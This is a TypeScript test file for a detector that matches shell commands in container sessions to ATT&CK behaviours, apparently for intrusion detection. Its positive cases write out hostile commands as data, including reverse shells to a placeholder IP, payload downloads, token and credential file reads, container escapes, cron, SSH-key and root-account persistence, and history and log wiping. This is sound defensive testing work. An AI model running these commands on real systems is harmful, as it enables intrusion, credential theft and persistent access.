import { describe, expect, it } from 'vitest';
import { COMBINATIONS, MARKERS, RECOGNISERS } from './recognisers';
import { scoreSession } from './score';
import { entityIdOf, proc, SESSION_START } from './test-helpers';

/** A command, optionally after other commands of the same session (typed a few seconds earlier), in a working directory. */
type Case = string | { cmd: string; after?: string[]; cwd?: string };

interface RecogniserCases {
  hit: Case[];
  miss: Case[];
}

const DROP_AGENT = 'curl -sSLo /app/agent https://198.51.100.23/agent';

const CASES: Record<string, RecogniserCases> = {
  'discovery.container': {
    hit: ['env', 'id', 'whoami', 'ps aux', 'mount', 'cat /proc/1/cgroup', 'uname -a', 'capsh --print', 'ls -la /.dockerenv'],
    miss: ['ls /app', 'cat /etc/nginx/nginx.conf', 'mount /dev/sda1 /mnt', 'top -b -n 1', 'tail -f /var/log/nginx/access.log'],
  },
  'discovery.cluster': {
    hit: ['kubectl get pods -A', 'kubectl -n kube-system get secrets', 'kubectl auth can-i --list', 'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace', 'ls /var/run/secrets/kubernetes.io/serviceaccount', 'nslookup kubernetes.default.svc.cluster.local'],
    miss: ['kubectl rollout status deploy/coredns -n kube-system', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'nslookup example.com', 'kubectl version --client'],
  },
  'discovery.network_scan': {
    hit: ['nmap -sS 10.0.0.0/24', 'nc -z host 80', 'nc -zv 10.0.0.5 1-1024', 'nc -vz db 5432'],
    miss: ['nc 203.0.113.50 4444 -e /bin/sh', 'netstat -tlnp', 'nc -lvp 4444'],
  },
  'credential_access.service_account_token': {
    hit: [
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      'head -c 100 /run/secrets/kubernetes.io/serviceaccount/token',
      'sh -c "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); echo $TOKEN"',
      'cat /var/run/secrets/tokens/vault-token',
    ],
    miss: ['cat /etc/hosts', 'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace', 'ls /var/run/secrets/kubernetes.io/serviceaccount/', 'cat /app/token.txt'],
  },
  'credential_access.kubeconfig': {
    hit: ['cat ~/.kube/config', 'cat /root/.kube/config', 'kubectl config view --raw', 'cat /etc/kubernetes/admin.conf', 'cp /var/lib/kubelet/kubeconfig /tmp/k'],
    miss: ['kubectl config current-context', 'kubectl config view', 'ls ~/.kube', 'cat /etc/nginx/nginx.conf'],
  },
  'credential_access.credential_files': {
    hit: ['cat /root/.aws/credentials', 'find / -name id_rsa', 'grep -ri password /app /etc', 'cat /etc/shadow', 'cat /root/.docker/config.json'],
    miss: ['grep -rn TODO src', 'cat /etc/passwd', 'grep password config.yaml', 'cat /root/.aws/config'],
  },
  'k8s_api.request': {
    hit: [
      'curl -k https://kubernetes.default.svc/api/v1/namespaces',
      'curl -sk -H "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9" https://10.96.0.1:443/api/v1/pods',
      'wget -qO- --no-check-certificate "--header=Authorization: Bearer eyJhbGciOiJSUzI1NiJ9" https://10.0.0.1:443/api',
      'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://10.96.0.1/api/v1/namespaces/default/pods',
      'sh -c "curl -sk https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces"',
      'curl -sk https://10.0.0.12:10250/pods',
    ],
    miss: [
      'curl localhost/health',
      'curl -s http://localhost:8080/api/v1/users',
      'curl -H "Authorization: Bearer abc" https://api.example.com/v2/items',
      'kubectl get pods',
      'curl -sk https://10.96.0.1:443/api',
      'sh -c "echo $KUBERNETES_SERVICE_HOST"',
    ],
  },
  'k8s_api.secrets': {
    hit: [
      'curl -k -H "Authorization: Bearer x" https://kubernetes.default.svc/api/v1/secrets',
      'curl -sk -H "Authorization: Bearer x" https://10.96.0.1:443/api/v1/namespaces/prod/secrets/db',
      'kubectl get secrets -A',
      'kubectl get secret db-creds -o yaml',
    ],
    miss: ['kubectl get pods', 'curl -k https://kubernetes.default.svc/api/v1/pods', 'cat /app/secrets.yaml', 'curl -s http://localhost:8080/secrets'],
  },
  'transfer.download': {
    hit: [
      'curl -o /tmp/x http://203.0.113.50/x',
      'curl -sSLo agent https://198.51.100.23/agent',
      'curl -O https://example.com/tool.tar.gz',
      'wget http://198.51.100.23/kworker',
      'wget -q -O /tmp/.kworker http://198.51.100.23/kworker',
    ],
    miss: [
      'curl localhost:8080/health',
      'curl -fsSL http://203.0.113.50/x.sh',
      'wget -qO- http://203.0.113.50/x.sh',
      'curl -s -o /dev/null -w "%{http_code}" https://example.com',
      'curl -o /tmp/h http://localhost:8080/health',
      'wget --spider https://example.com',
    ],
  },
  'transfer.package_install': {
    hit: ['apt-get install -y netcat', 'apk add --no-cache curl', 'pip install requests', 'python3 -m pip install impacket', 'yum install -y nmap'],
    miss: ['pip install -r requirements.txt', 'apt-get update', 'npm ci --no-audit', 'pip list', 'pip install -e .', 'python3 -m pip list'],
  },
  'transfer.network_tool_install': {
    hit: ['apt-get install -y netcat', 'apt-get install -y netcat-openbsd curl', 'apk add socat', 'pip install impacket==0.11.0'],
    miss: ['apt-get install -y vim', 'apk add curl', 'cat netcat'],
  },
  'execution.staged_binary': {
    hit: [
      '/tmp/.kworker -o pool.example.net:3333',
      '/dev/shm/agent',
      '/var/tmp/x',
      { cmd: '/app/agent', after: [DROP_AGENT] },
      { cmd: '/root/kworker', after: ['wget http://198.51.100.23/kworker'], cwd: '/root' },
    ],
    miss: ['/usr/bin/ls /tmp', '/tmp/go-build1234/b001/exe/main', '/app/server', { cmd: '/app/server', after: [DROP_AGENT] }],
  },
  'execution.staged_script': {
    hit: ['sh /tmp/x.sh', 'bash /dev/shm/run', 'python3 /tmp/p.py', { cmd: 'sh install.sh', after: ['curl -o install.sh https://203.0.113.50/i.sh'], cwd: '/app' }],
    miss: ['sh -c "npm ci && npm test"', 'bash ./scripts/build.sh', 'python3 manage.py showmigrations', 'cat /tmp/x.sh'],
  },
  'execution.made_executable': {
    hit: ['chmod +x /tmp/.kworker', 'chmod 777 /dev/shm/agent', { cmd: 'chmod +x agent', after: [DROP_AGENT], cwd: '/app' }],
    miss: ['chmod +x ./gradlew', 'chmod 644 /tmp/x', 'chmod -R u+rw /tmp/cache', { cmd: 'chmod +x other', after: [DROP_AGENT], cwd: '/app' }],
  },
  'execution.reverse_shell': {
    hit: [
      'nc 203.0.113.50 4444 -e /bin/sh',
      'ncat 203.0.113.50 4444 --sh-exec /bin/bash',
      'nc -nve /bin/sh 203.0.113.50 4444',
      'busybox nc 203.0.113.50 4444 -e /bin/sh',
      'bash -c "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"',
      'socat tcp:203.0.113.50:4444 exec:/bin/bash,pty,stderr',
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.50",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
      `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.50")));exec("/bin/sh -i");'`,
      'sh -c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.50 4444 >/tmp/f"',
    ],
    miss: [
      'nc -z host 80',
      'nc -vz db 5432',
      `python3 -c "import socket; socket.create_connection(('localhost', 8080))"`,
      'socat TCP-LISTEN:8080,fork TCP:localhost:80',
      'bash -c "echo hello"',
      'nc 10.0.0.5 80',
    ],
  },
  'execution.listener': {
    hit: ['nc -lvp 4444', 'nc -l -p 4444', 'nc -nlvp 4444', 'ncat --listen 4444', 'socat TCP-LISTEN:8080,fork TCP:localhost:80'],
    miss: ['nc -z host 80', 'nc 10.0.0.5 80', 'ss -lnt', 'socat - TCP:localhost:80'],
  },
  'escape.host_namespace': {
    hit: ['nsenter -t 1 -m -u -i -n sh', 'chroot /host bash', 'ls /proc/1/root', 'cat /proc/1/root/etc/shadow'],
    miss: ['cat /proc/1/cgroup', 'chroot /srv/jail', 'ls /proc/1/'],
  },
  'escape.host_mount': {
    hit: ['mount /dev/sda1 /mnt', 'mount -t cgroup -o rdma cgroup /tmp/cgrp', 'sh -c "echo /cmd > /tmp/cgrp/release_agent"', 'debugfs /dev/nvme0n1p1'],
    miss: ['mount', 'mount -t tmpfs tmpfs /mnt/scratch', 'df -h'],
  },
  'escape.runtime_socket': {
    hit: ['curl --unix-socket /var/run/docker.sock http://localhost/containers/json', 'ls -la /run/containerd/containerd.sock', 'crictl ps'],
    miss: ['ls /var/run', 'curl --unix-socket /run/app.sock http://localhost/health'],
  },
  'persistence.cron': {
    hit: [
      'crontab /tmp/cron',
      'crontab -e',
      'tee -a /etc/crontab',
      'cp /tmp/job /etc/cron.d/job',
      `sh -c "echo '* * * * * /tmp/x' >> /var/spool/cron/crontabs/root"`,
      'sh -c "(crontab -l; echo x) | crontab -"',
    ],
    miss: ['crontab -l', 'cat /etc/crontab', 'ls /etc/cron.d', 'cp /etc/cron.d/job /tmp/job', 'sh -c "crontab -l | grep backup"'],
  },
  'persistence.shell_profile': {
    hit: ['sh -c "echo /tmp/x >> ~/.bashrc"', 'tee -a /root/.bashrc', 'cp /tmp/p /etc/profile.d/p.sh', 'vi ~/.bashrc', "sed -i s/x/y/ /root/.profile"],
    miss: ['cat ~/.bashrc', 'grep alias /root/.bashrc', 'sh -c ". ~/.bashrc && npm test"', 'cp /root/.bashrc /tmp/b', 'sed s/x/y/ /root/.profile'],
  },
  'persistence.local_account': {
    hit: ['useradd -m -s /bin/bash backdoor', 'adduser -D svc', `sh -c "echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd"`, 'tee -a /etc/sudoers'],
    miss: ['cat /etc/passwd', 'getent passwd root', 'id', 'cp /etc/passwd /tmp/p'],
  },
  'persistence.ssh_key': {
    hit: ['sh -c "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"', 'tee -a /root/.ssh/authorized_keys', 'cp /tmp/k /root/.ssh/authorized_keys'],
    miss: ['cat /root/.ssh/authorized_keys', 'ls /root/.ssh'],
  },
  'defense_evasion.history': {
    hit: ['rm -f /root/.bash_history', 'ln -sf /dev/null /root/.bash_history', 'bash -c "history -c"', 'sh -c "unset HISTFILE; id"', 'env HISTFILE=/dev/null bash'],
    miss: ['cat /root/.bash_history', 'sh -c "history | tail"', 'echo history'],
  },
  'defense_evasion.file_deletion': {
    hit: [
      'rm -rf /tmp/.kworker',
      'rm -f /dev/shm/agent',
      'shred -u notes.txt',
      { cmd: 'rm -f /app/agent', after: [DROP_AGENT] },
      { cmd: 'rm -f agent', after: [DROP_AGENT], cwd: '/app' },
      { cmd: 'rm -rf /opt/x', after: ['wget -q -O /opt/x/payload http://198.51.100.23/p'] },
    ],
    miss: ['rm -rf node_modules', 'rm /tmp/build.log', 'rm -rf /tmp/npm-cache', { cmd: 'rm -rf /app/cache', after: [DROP_AGENT] }, { cmd: 'rm -rf /opt', after: ['wget -q -O /opt/x/payload http://198.51.100.23/p'] }],
  },
  'defense_evasion.log_clearing': {
    hit: ['rm -rf /var/log/nginx', 'truncate -s 0 /var/log/auth.log', 'journalctl --vacuum-time=1s'],
    miss: ['tail -f /var/log/nginx/access.log', 'ls /var/log', 'cat /var/log/messages'],
  },
};

function label(c: Case): string {
  return typeof c === 'string' ? c : `${c.cmd}  (after: ${(c.after ?? []).join('; ')}${c.cwd ? `; in ${c.cwd}` : ''})`;
}

/** The ids of the behaviours the case's command itself shows (context commands may show others). */
function behavioursOf(c: Case): string[] {
  const { cmd, after = [], cwd } = typeof c === 'string' ? { cmd: c } : c;
  const context = after.map((line, i) => proc(line, { t: SESSION_START + i * 1_000, cwd }));
  const target = proc(cmd, { t: SESSION_START + 60_000, cwd });
  const id = entityIdOf(target);
  const { behaviors } = scoreSession([...context, target], { maxEvidence: 20 });
  return behaviors.filter((b) => b.evidence.some((e) => e.entity_id === id)).map((b) => b.id);
}

describe('recogniser table', () => {
  it('has unique ids, ATT&CK technique ids and weights of 1-100', () => {
    const ids = [...RECOGNISERS, ...MARKERS, ...COMBINATIONS].map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const r of [...RECOGNISERS, ...COMBINATIONS]) {
      expect(r.technique.id, r.id).toMatch(/^T\d{4}(\.\d{3})?$/);
      expect(r.technique.name.length, r.id).toBeGreaterThan(0);
      expect(r.weight, r.id).toBeGreaterThanOrEqual(1);
      expect(r.weight, r.id).toBeLessThanOrEqual(100);
    }
  });

  it('has positive and negative cases for every recogniser', () => {
    expect(Object.keys(CASES).sort()).toEqual(RECOGNISERS.map((r) => r.id).sort());
    for (const [id, c] of Object.entries(CASES)) {
      expect(c.hit.length, id).toBeGreaterThan(0);
      expect(c.miss.length, id).toBeGreaterThan(0);
    }
  });
});

describe.each(Object.entries(CASES))('%s', (id, cases) => {
  it.each(cases.hit.map((c) => [label(c), c] as const))('recognises %s', (_label, c) => {
    expect(behavioursOf(c)).toContain(id);
  });
  it.each(cases.miss.map((c) => [label(c), c] as const))('does not take %s for it', (_label, c) => {
    expect(behavioursOf(c)).not.toContain(id);
  });
});
